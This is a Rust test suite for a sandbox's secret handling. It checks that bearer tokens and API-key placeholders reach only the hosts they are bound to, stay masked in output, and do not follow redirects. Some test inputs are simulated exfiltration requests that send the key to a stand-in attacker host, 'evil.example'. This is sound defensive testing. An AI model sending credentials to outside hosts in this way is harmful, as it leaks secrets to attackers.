//! Secrets: a guest uses them and never sees them.

use super::world::{Server, World, world};
use super::{Ran, egress, run_with};
use swarm_flow_sandbox::{Placement, Secret, Secrets};
use zeroize::Zeroizing;

const NAMES: &[&str] = &[
    "api.example=93.184.216.34",
    "deep.api.example=93.184.216.34",
    "evil.example=93.184.216.35",
];
const VALUE: &str = "hunter22-tiger";
const GRANTED: &str =
    "http://api.example;http://api.example:8080;http://deep.api.example;http://evil.example";

fn secret(name: &str, host: &str, placement: Placement) -> Secret {
    let value = Zeroizing::new(VALUE.to_owned());
    Secret::new(name, &[host.to_owned()], placement, value).unwrap()
}

fn header() -> Placement {
    Placement::Header {
        name: "authorization".to_owned(),
        format: "Bearer {}".to_owned(),
    }
}

fn bearer(host: &str) -> Secrets {
    Secrets::new(vec![secret("TOKEN", host, header())])
}

fn variable(host: &str) -> Secrets {
    let placement = Placement::Variable("API_KEY".to_owned());
    Secrets::new(vec![secret("KEY", host, placement)])
}

async fn request(world: &World, secrets: &Secrets, line: &str) -> Ran {
    let egress = egress(GRANTED).by(world.clone());
    run_with("request", line, &egress, None, secrets.clone()).await
}

/// The value of a field of the only request since the last time.
fn field(server: &Server, name: &str) -> Option<String> {
    let heads = server.heads();
    assert_eq!(heads.len(), 1, "{heads:?}");
    let fields: Vec<_> = heads[0]
        .lines()
        .filter_map(|line| line.strip_prefix(name)?.strip_prefix(": "))
        .map(str::to_owned)
        .collect();
    assert!(fields.len() < 2, "{fields:?}");
    fields.into_iter().next()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_header_goes_to_the_hosts_that_the_secret_is_bound_to_and_to_no_other() {
    let server = Server::start();
    let world = world(server.address, NAMES);
    for (bound, line, sent) in [
        ("http://api.example", "GET http api.example /", true),
        ("http://api.example", "GET http API.example.:80 /a?b", true),
        ("http://api.example", "GET http evil.example /", false),
        ("http://api.example", "GET http deep.api.example /", false),
        ("http://api.example", "GET http api.example:8080 /", false),
        ("http://*.api.example", "GET http deep.api.example /", true),
        ("http://*.api.example", "GET http api.example /", false),
        // Granted by `http`, bound to `https`: not in the clear.
        ("https://api.example", "GET http api.example /", false),
        ("https://api.example:80", "GET http api.example /", false),
        (
            "GET http://api.example/v1/",
            "GET http api.example /v1/x",
            true,
        ),
        (
            "GET http://api.example/v1/",
            "POST http api.example /v1/x",
            false,
        ),
        (
            "GET http://api.example/v1/",
            "GET http api.example /v2/",
            false,
        ),
        (
            "GET http://api.example/v1/",
            "GET http api.example /v1/../v2/",
            false,
        ),
    ] {
        let ran = request(&world, &bearer(bound), line).await;
        assert!(ran.said.starts_with("granted 200"), "{line}: {}", ran.said);
        let expected = sent.then(|| format!("Bearer {VALUE}"));
        assert_eq!(
            field(&server, "authorization"),
            expected,
            "{line} bound to {bound}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_the_policy_denies_carries_nothing_anywhere() {
    let server = Server::start();
    let world = world(server.address, NAMES);
    let secrets = bearer("http://api.example");
    for network in ["none", "http://evil.example", "GET http://api.example/v1"] {
        let egress = egress(network).by(world.clone());
        let line = "GET http api.example /";
        let ran = run_with("request", line, &egress, None, secrets.clone()).await;
        assert!(ran.said.starts_with("denied"), "{}", ran.said);
        assert!(!ran.denial().contains(VALUE));
    }
    assert!(server.heads().is_empty() && world.dialled().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_guest_that_sets_the_header_itself_does_not_win() {
    let server = Server::start();
    let world = world(server.address, NAMES);
    let secrets = bearer("http://api.example");
    for (host, expected) in [
        ("api.example", format!("Bearer {VALUE}")),
        ("evil.example", "mine".to_owned()),
    ] {
        let line = format!("GET http {host} / authorization=mine");
        request(&world, &secrets, &line).await;
        assert_eq!(field(&server, "authorization"), Some(expected));
    }
    let line = "GET http api.example / accept-encoding=gzip";
    request(&world, &secrets, line).await;
    assert_eq!(
        field(&server, "accept-encoding").as_deref(),
        Some("identity")
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_placeholder_becomes_the_value_at_its_host_and_is_worthless_elsewhere() {
    let server = Server::start();
    let world = world(server.address, NAMES);
    let secrets = variable("http://api.example");
    let send = async |line: &str| {
        request(&world, &secrets, line).await;
        field(&server, "x-key").unwrap()
    };
    assert_eq!(
        send("GET http api.example / x-key=<$API_KEY>").await,
        format!("<{VALUE}>")
    );
    let elsewhere = send("GET http evil.example / x-key=$API_KEY").await;
    assert!(
        elsewhere.starts_with("swarm-flow-secret-") && elsewhere.len() == 50,
        "{elsewhere}"
    );
    // What another sandbox had is nothing in this one.
    let again = send(&format!("GET http api.example / x-key={elsewhere}")).await;
    assert_eq!(again, elsewhere);
    // Neither in the path, nor in the query, nor in the body.
    let ran = request(
        &world,
        &secrets,
        "POST http api.example /$API_KEY?$API_KEY body=$API_KEY",
    )
    .await;
    assert_eq!(
        ran.said.matches("swarm-flow-secret-").count(),
        3,
        "{}",
        ran.said
    );
    assert!(!server.heads()[0].contains(VALUE));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_server_that_repeats_what_it_was_sent_is_not_heard() {
    let server = Server::start();
    let world = world(server.address, NAMES);
    let stars = "*".repeat(VALUE.len());
    for path in ["/echo", "/chunks"] {
        let line = format!("GET http api.example {path} show=x-echo");
        let ran = request(&world, &bearer("http://api.example"), &line).await;
        assert!(field(&server, "authorization").is_some());
        let times = if path == "/echo" { 2 } else { 1 };
        let masked = format!("Bearer {stars}");
        assert_eq!(ran.said.matches(&masked).count(), times, "{}", ran.said);
        assert!(!ran.said.contains(VALUE), "{}", ran.said);

        let line = format!("GET http api.example {path} show=x-echo x-key=$API_KEY");
        let ran = request(&world, &variable("http://api.example"), &line).await;
        assert_eq!(ran.said.matches(&stars).count(), times, "{}", ran.said);
        assert!(server.heads()[0].contains(VALUE));
        assert!(!ran.said.contains(VALUE), "{}", ran.said);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_answer_that_cannot_be_read_is_refused_where_a_secret_went() {
    let server = Server::start();
    let world = world(server.address, NAMES);
    for (bound, expected) in [
        ("http://api.example", "failed HttpResponseContentCoding"),
        ("http://evil.example", "granted 200 x"),
    ] {
        let ran = request(&world, &bearer(bound), "GET http api.example /gzip").await;
        assert_eq!(ran.said, expected);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_redirect_takes_no_secret_along() {
    let server = Server::start();
    let world = world(server.address, NAMES);
    let secrets = bearer("http://api.example");
    let ran = request(
        &world,
        &secrets,
        "GET http api.example /redirect show=location",
    )
    .await;
    assert_eq!(ran.said, "granted 302 location=http://evil.example/");
    assert!(field(&server, "authorization").is_some());
    // Where the guest goes then.
    request(&world, &secrets, "GET http evil.example /").await;
    assert_eq!(field(&server, "authorization"), None);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_guest_puts_out_is_masked() {
    let server = Server::start();
    let world = world(server.address, NAMES);
    let egress = egress("none").by(world);
    for (secrets, shown) in [
        (bearer("http://api.example"), "*".repeat(VALUE.len())),
        (Secrets::default(), VALUE.to_owned()),
    ] {
        // It was told the value, and says it.
        let line = format!("GET http api.example / say={VALUE}");
        let ran = run_with("request", &line, &egress, None, secrets).await;
        assert!(ran.said.contains(&shown), "{}", ran.said);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_secret_that_is_taken_away_is_gone_for_the_next_request() {
    let server = Server::start();
    let world = world(server.address, NAMES);
    let secrets = bearer("http://api.example");
    // Two requests of one sandbox; the second waits until the secret is gone.
    let running = tokio::spawn({
        let (world, secrets) = (world.clone(), secrets.clone());
        async move { request(&world, &secrets, "GET http api.example / again=300").await }
    });
    let mut heads = Vec::new();
    while heads.is_empty() {
        tokio::time::sleep(std::time::Duration::from_millis(5)).await;
        heads = server.heads();
    }
    secrets.replace(Vec::new());
    running.await.unwrap();
    heads.extend(server.heads());
    assert_eq!(heads.len(), 2);
    assert!(
        heads[0].contains(VALUE) && !heads[1].contains(VALUE),
        "{heads:?}"
    );
}
